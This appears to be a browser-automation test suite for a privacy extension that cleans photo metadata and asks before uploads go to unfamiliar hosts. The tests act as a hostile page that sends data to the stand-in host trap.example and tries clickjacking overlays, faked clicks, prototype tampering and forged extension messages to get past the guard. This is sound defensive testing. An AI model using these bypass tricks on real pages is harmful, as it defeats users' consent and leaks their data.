import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { leaks } from '../fixtures/canary.ts';
import { phoneJpeg } from '../fixtures/jpeg.ts';
import { type Bench, BROWSERS, open, until } from './harness/index.ts';

const STUDIO = 'https://studio.tripo3d.ai/';
const TRAP = 'http://trap.example/';
const STRICT = "default-src 'none'; script-src 'self'; style-src 'self'; connect-src *; img-src 'self'";

const PAGE = `<!doctype html><html lang="en"><title>studio</title><input type="file" id="input">
  <button id="send">send</button><script src="/page.js"></script></html>`;
const SCRIPT = `
  input.onchange = () => { fetch('/upload', { method: 'POST', body: input.files[0] }); };
  send.onclick = () => fetch('${TRAP}', { method: 'POST', body: 'raw' }).catch(() => {});`;

let folder: string;
let photo: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'meshwarden-trust-'));
  photo = join(folder, 'photo.jpg');
  await writeFile(photo, await phoneJpeg());
});
afterAll(() => rm(folder, { recursive: true, force: true }));

describe.each(BROWSERS)('a page against the guard, in %s', (kind) => {
  let bench: Bench;
  let page: Page;
  beforeAll(async () => {
    bench = await open(kind, { insecure: true });
    bench.world.route(STUDIO, ({ path }) => {
      if (path === '/page.js') return { headers: { 'content-type': 'text/javascript' }, body: SCRIPT };
      const headers = { 'content-type': 'text/html', 'content-security-policy': STRICT };
      return path === '/' ? { headers, body: PAGE } : { body: 'received' };
    });
    bench.world.route(TRAP, () => ({ headers: { 'access-control-allow-origin': '*' } }));
  });
  afterAll(() => bench?.close());
  beforeEach(async () => {
    bench.world.clear();
    page = await bench.page(STUDIO);
  });
  afterEach(() => page.close());

  const text = () => bench.guardText(page);
  const shows = (words: string) => until(async () => (await text()).includes(words), { what: words });
  const gone = (words: string) =>
    until(async () => !(await text()).includes(words), { what: `no more ${words}` });
  const trapped = () => bench.world.to('trap.example').length;
  const uploads = () => bench.world.to('studio.tripo3d.ai', 'POST');
  const isOnTop = () =>
    page.evaluate(() => {
      const middle = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
      return middle?.parentElement === document.documentElement && middle !== document.body;
    });
  const hold = async () => {
    await page.click('#send');
    await shows('trap.example');
  };
  it('draws itself under a strict content security policy', async () => {
    await bench.pick(page, '#input', [photo]);
    await shows('1 file cleaned');
    const place = await page.evaluate(() => {
      const corner = document.elementFromPoint(innerWidth - 40, innerHeight - 40);
      return corner && !corner.shadowRoot && corner.parentElement === document.documentElement;
    });
    expect(place).toBe(true);
  });

  it('cannot read what the notice says', async () => {
    await bench.pick(page, '#input', [photo]);
    await shows('51.5014');
    const found = await page.evaluate(() => {
      const host = document.documentElement.lastElementChild as HTMLElement;
      return [
        host.shadowRoot,
        host.innerHTML,
        host.innerText,
        host.getAttributeNames().join(),
        document.body.innerText,
      ].join();
    });
    expect(found).not.toContain('51.5014');
    expect(found).not.toContain('photo.jpg');
  });

  it('that removes every notice still gets clean files only', async () => {
    await page.evaluate(() => {
      new MutationObserver((records) => {
        for (const { addedNodes } of records) for (const node of addedNodes) (node as Element).remove();
      }).observe(document, { childList: true, subtree: true });
    });
    await bench.pick(page, '#input', [photo]);
    await until(() => uploads().some(({ complete, body }) => complete && body.length > 0));
    expect(uploads().flatMap(({ body }) => leaks(body))).toEqual([]);
    expect(await text()).toBe('');
  });

  it('that throws in every listener still gets clean files only', async () => {
    await page.evaluate(() => {
      for (const type of ['input', 'change'])
        window.addEventListener(
          type,
          () => {
            throw new Error('no');
          },
          true,
        );
    });
    await bench.pick(page, '#input', [photo]);
    await until(() => uploads().some(({ complete, body }) => complete && body.length > 0));
    expect(uploads().flatMap(({ body }) => leaks(body))).toEqual([]);
  });

  it('that takes the dialog away has its answer: no', async () => {
    await hold();
    await page.evaluate(() => document.documentElement.lastElementChild?.remove());
    await gone('trap.example');
    await hold();
    await page.keyboard.press('Escape');
    await gone('trap.example');
    expect(trapped()).toBe(0);
  });

  it('cannot click for the person, nor hurry or hide the button', async () => {
    await hold();
    await page.evaluate(() => {
      const host = document.documentElement.lastElementChild as HTMLElement;
      host.style.cssText = 'opacity: 0 !important; display: none !important; transform: scale(9) !important';
      document.documentElement.style.opacity = '0';
      for (const type of ['pointerdown', 'mousedown', 'click']) {
        for (let x = 0; x < innerWidth; x += 20) {
          for (let y = 0; y < innerHeight; y += 20) {
            const init = { bubbles: true, cancelable: true, composed: true, clientX: x, clientY: y };
            document.elementFromPoint(x, y)?.dispatchEvent(new MouseEvent(type, init));
          }
        }
      }
      for (const key of ['Tab', 'Enter', ' ']) {
        (document.activeElement ?? document.body).dispatchEvent(
          new KeyboardEvent('keydown', { key, bubbles: true, composed: true }),
        );
      }
    });
    // Still drawn, in the middle of the window and above everything.
    expect(await isOnTop()).toBe(true);
    expect(trapped()).toBe(0);
    await page.keyboard.press('Enter');
    await gone('trap.example');
    expect(trapped()).toBe(0);
  });

  it('cannot lay something over the button', async () => {
    await hold();
    await page.evaluate(() => {
      const cover = document.createElement('div');
      cover.popover = 'manual';
      cover.style.cssText = 'pointer-events: none; position: fixed; inset: 0; width: 100vw; height: 100vh';
      document.body.append(cover);
      cover.showPopover();
    });
    // Raised above the cover: what is drawn at the middle of the window is the dialog again.
    await until(isOnTop);
    await bench.clickGuard(page, 'Send unencrypted');
    await until(() => trapped() === 1);
  });

  // Only Chromium tells what lies in front of a button and lets clicks through.
  it.runIf(kind === 'chromium')('cannot lay something over the button that nobody can find', async () => {
    await hold();
    await page.evaluate(() => {
      const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
      root.innerHTML =
        '<div popover="manual" style="pointer-events: none; position: fixed; inset: 0; width: 100vw; height: 100vh; background: white">A harmless page</div>';
      (root.firstElementChild as HTMLElement).showPopover();
    });
    await bench.clickGuard(page, 'Send unencrypted');
    expect(await isOnTop()).toBe(true);
    expect(trapped()).toBe(0);
    // The dialog has come up above it: what is clicked now was to be seen.
    await bench.clickGuard(page, 'Send unencrypted');
    await until(() => trapped() === 1);
  });

  it('cannot mark anything as dealt with', async () => {
    await page.evaluate(() => {
      const marks = {
        meshwarden: 'vetted',
        vetted: true,
        clean: true,
        ours: true,
        __meshwarden: 1,
        trusted: true,
      };
      const input = document.querySelector('input') as HTMLInputElement;
      for (const target of [window, document, document.documentElement, input]) Object.assign(target, marks);
      for (const name of ['meshwarden', 'vetted', 'guard']) input.dataset[name] = 'vetted';
      for (const prototype of [Event.prototype, File.prototype, Blob.prototype])
        Object.assign(prototype, marks);
      for (const Class of [WeakSet, WeakMap, Set, Map]) {
        Class.prototype.has = () => true;
      }
      Object.defineProperty(Event.prototype, 'isTrusted', { get: () => true });
    });
    await bench.pick(page, '#input', [photo]);
    await until(() => uploads().some(({ complete, body }) => complete && body.length > 0));
    expect(uploads().flatMap(({ body }) => leaks(body))).toEqual([]);
    await hold();
    expect(trapped()).toBe(0);
  });

  it('hears no message of ours, and replaying those of extensions and of WXT does nothing', async () => {
    const early = await page.evaluateOnNewDocument(() => {
      const heard: string[] = [];
      Object.assign(window, { heard });
      for (const capture of [true, false])
        window.addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)), capture);
    });
    await page.reload();
    await bench.pick(page, '#input', [photo]);
    await until(() => uploads().length === 1);
    expect(await page.evaluate(() => (window as never as { heard: string[] }).heard)).toEqual([]);
    await page.removeScriptToEvaluateOnNewDocument(early.identifier);
    await page.evaluate(() => {
      const name = 'guard';
      const messages = [
        { type: 'wxt:content-script-started', contentScriptName: name, invalidated: true, messageId: 'a' },
        { type: `meshwarden:${name}:wxt:content-script-started`, contentScriptName: name, messageId: 'b' },
        { type: 'ask-guard' },
        { type: 'guard-ready', limited: true },
        { type: 'files-vetted', files: [] },
        { type: 'upload-held', host: 'trap.example', odd: [], outcome: 'sent' },
        { type: 'save-settings', settings: { cadence: 'off', muted: ['tripo'] } },
      ];
      for (const message of messages) {
        window.postMessage(message, '*');
        document.dispatchEvent(new CustomEvent(message.type, { detail: message }));
        window.dispatchEvent(new MessageEvent('message', { data: message, source: window }));
        // Firefox and Chromium let no page talk to an extension that does not ask for it.
        const { chrome } = window as { chrome?: { runtime?: { sendMessage?(message: object): void } } };
        chrome?.runtime?.sendMessage?.(message);
      }
    });
    await bench.pick(page, '#input', [photo]);
    await until(() => uploads().length === 2 && uploads().every(({ complete }) => complete));
    expect(uploads().flatMap(({ body }) => leaks(body))).toEqual([]);
    await hold();
    expect(trapped()).toBe(0);
  });

  it('cannot forge the wire between the worlds', async () => {
    const bytes = [...(await readFile(photo))];
    await page.evaluate((bytes) => {
      const load = new DataTransfer();
      load.items.add(new File([new Uint8Array(bytes)], 'photo.jpg', { type: 'image/jpeg' }));
      const { port1, port2 } = new MessageChannel();
      for (const target of [window, document, document.documentElement, port1, port2])
        for (const type of [
          'vet',
          'vetted',
          'filled',
          'taken-up',
          'set-down',
          'adopt',
          'leaving',
          'answer',
        ]) {
          for (const data of ['v0 c', 'v0 n', 'v1 c', 'v2 c', 'u0 send', '0'])
            target.dispatchEvent(new InputEvent(type, { dataTransfer: load, data, bubbles: true }));
        }
      (window as never as { load: DataTransfer }).load = load;
      fetch('/upload', { method: 'POST', body: load.files[0] ?? null });
    }, bytes);
    await until(() => uploads().some(({ complete, body }) => complete && body.length > 0));
    expect(uploads().flatMap(({ body }) => leaks(body))).toEqual([]);
  });

  it('cannot replay our own words', async () => {
    await page.evaluate(() => {
      for (const type of ['mw-hello', 'mw-offer', 'taken', 'answer']) {
        const { port1 } = new MessageChannel();
        for (const data of ['u0 send', 'u1 send', 'form send']) {
          window.dispatchEvent(new MessageEvent(type, { data, source: port1 }));
          document.dispatchEvent(new MessageEvent(type, { data, source: port1, bubbles: true }));
          window.postMessage({ type, data }, '*');
        }
      }
    });
    await hold();
    await bench.pick(page, '#input', [photo]);
    await until(() => uploads().some(({ complete, body }) => complete && body.length > 0));
    expect(uploads().flatMap(({ body }) => leaks(body))).toEqual([]);
    expect(trapped()).toBe(0);
  });
});
